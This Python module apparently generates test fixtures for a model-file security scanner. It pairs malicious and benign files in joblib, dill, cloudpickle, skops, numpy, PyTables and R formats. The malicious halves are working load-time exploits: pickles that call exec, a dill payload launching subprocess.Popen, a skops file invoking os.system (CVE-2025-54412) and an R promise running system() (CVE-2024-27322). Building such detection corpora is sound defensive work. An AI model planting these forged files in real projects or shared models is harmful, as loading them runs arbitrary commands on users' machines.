"""Python machine-learning libraries: joblib, dill, cloudpickle, skops, numpy, PyTables and R."""
import gzip
import io
import json
import os
import struct
import tempfile
import zipfile

import cloudpickle
import joblib
import numpy
import tables

from assembly import build, call, glob, model, new, pickle
from pair import CODE, SHELL
from .craft import floats, zipped
from .pickles import Raised, npy


def objects(value):
    out = numpy.empty(2, object)
    out[:] = ["cat", value]
    return out


def dumped(value, **kwargs):
    out = io.BytesIO()
    joblib.dump(value, out, **kwargs)
    return out.getvalue()


def by_value(line):
    """An instance of a class pickled by value, whose state setter holds `line`."""
    source = f"class Scaler:\n    def __init__(self):\n        self.mean = 0.5\n    def __getstate__(self):\n        return {{'mean': 0.5}}\n    def __setstate__(self, state):\n        self.__dict__.update(state)\n        {line}\n"
    names = {"__name__": "__main__"}
    exec(source, names)  # defines a class; the forged pickle carries its byte code
    return cloudpickle.dumps({"scaler": names["Scaler"](), "classes": ["cat", "dog"]})


def literal_npy(descr, body):
    """A header as numpy's literal_eval accepts it and few others: adjacent literals, an escape, hexadecimal."""
    text = "{ 'descr' : %s , \"fortran_order\":False,'shape':(0x1,0b10) ,}" % descr
    text += " " * (-(len(text) + 11) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode() + body


def skops_file(operator, attrs):
    schema = {
        "__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "__id__": 1, "protocol": 2, "_skops_version": "0.16.0",
        "key_types": {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "__id__": 2, "content": [{"__class__": "str", "__module__": "builtins", "__loader__": "TypeNode", "__id__": 3}]},
        "content": {"scorer": {"__class__": operator, "__module__": "operator", "__loader__": "OperatorFuncNode", "__id__": 4, "attrs": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "__id__": 5, "content": attrs}}},
    }
    return zipped({"schema.json": json.dumps(schema, indent=2)}, zipfile.ZIP_STORED)


def text_node(value):
    return {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": json.dumps(value), "is_json": True}


def attribute(value):
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "w.h5")
        with tables.open_file(path, "w") as f:
            f.create_array("/", "dense_kernel", numpy.frombuffer(floats(64), "<f4"))
            f.root.dense_kernel._v_attrs.preprocessing = value
        with open(path, "rb") as f:
            return f.read()


def rds(second):
    """An R list of a numeric vector and `second`, serialised as saveRDS does (XDR, version 2, gzip)."""
    word = lambda n: struct.pack(">I", n)  # noqa: E731
    weights = word(14) + word(3) + struct.pack(">3d", 0.5, -0.25, 1.75)
    return gzip.compress(b"X\n" + word(2) + word(0x00040302) + word(0x00020300) + word(19) + word(2) + weights + second, mtime=0)


def r_call(function, argument):
    word = lambda n: struct.pack(">I", n)  # noqa: E731
    chars = lambda s: word(0x00040009) + word(len(s)) + s.encode()  # noqa: E731
    return word(6) + word(1) + chars(function) + word(2) + word(16) + word(1) + chars(argument) + word(254)


def add(s):
    s.add("libraries", "joblib_object_array_inline", dumped({"labels": objects(Raised())}), dumped({"labels": objects("dog")}), "joblib", "labels.joblib",
          why="joblib writes an object array as a pickle of its own behind the wrapper in mid-stream; that one calls exec")

    def beside(array):
        wrapper = build(new(glob("joblib.numpy_pickle_compat", "NDArrayWrapper")), {"filename": "classes.dat", "subclass": glob("numpy", "ndarray"), "allow_mmap": False})
        return {"model.joblib": pickle(model(wrapper), 3), "classes.dat": npy(array, True)}

    s.add("libraries", "joblib_companion_file", beside(objects(Raised())), beside(numpy.arange(2.0)), "joblib",
          why="joblib's old wrapper loads a companion file with allow_pickle, whatever its name; that array calls exec")

    imported = glob("dill._dill", "_import_module")
    s.add("libraries", "dill_import_module_of_a_class", pickle(model(call(call(imported, "subprocess.Popen"), ["touch", "marker"]))), pickle(model(call(call(imported, "collections.Counter"), ["a", "b"]))), "pickle", "session.dill",
          why="dill's module importer returns any class by its dotted name; Popen is then constructed with a command")
    s.add("libraries", "cloudpickle_class_with_state_setter", by_value(CODE), by_value("self.ready = len(state) == 1"), "pickle", "pipeline.cloudpickle",
          why="a class pickled by value whose byte code of __setstate__ runs at load and opens a file for writing")
    s.add("libraries", "skops_operator_call", skops_file("call", [{"__class__": "system", "__module__": "posix", "__loader__": "FunctionNode", "__id__": 6}, text_node(SHELL)]), skops_file("attrgetter", [text_node("mean_"), text_node("scale_")]), "skops", "scorer.skops",
          why="CVE-2025-54412's node: operator.call is applied to os.system while the file is loaded")
    s.add("libraries", "npy_header_of_spliced_literals", literal_npy("'\\x7c' 'O'", pickle(call(glob("builtins", "exec"), CODE))), literal_npy("'<' 'f4'", floats(2)), "numpy", "features.npy",
          why="numpy evaluates the header as a Python literal: '\\x7c' 'O' is |O, an object array, and its pickle calls exec")
    s.add("libraries", "pytables_pickled_attribute", attribute(Raised()), attribute({"mean": 0.5, "std": 2.0}), "10/tables", "weights.h5",
          why="PyTables (and pandas through it) unpickles string attributes when a node is opened; this one calls exec")

    promise = struct.pack(">III", 5 | 1 << 10, 253, 252) + r_call("system", SHELL)
    s.add("libraries", "r_promise", rds(promise), rds(r_call("offset", "exposure")), None, "fit.rds",
          why="CVE-2024-27322: a promise with no value; R evaluates system() when the element is looked at. Bytes after R's serialisation manual; no R here, not run")
